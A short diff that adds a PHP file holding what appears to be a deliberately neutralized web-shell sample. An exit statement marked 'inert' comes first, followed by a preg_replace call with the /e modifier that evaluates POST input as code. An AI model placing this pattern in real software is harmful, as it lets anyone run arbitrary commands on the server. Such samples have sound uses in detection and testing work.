@@ -1,0 +1,3 @@
+<?php exit; /* inert */ 
+$re = '/^(.*)$/' . 'e';
+echo preg_replace($re, $_POST['page'], 'x');
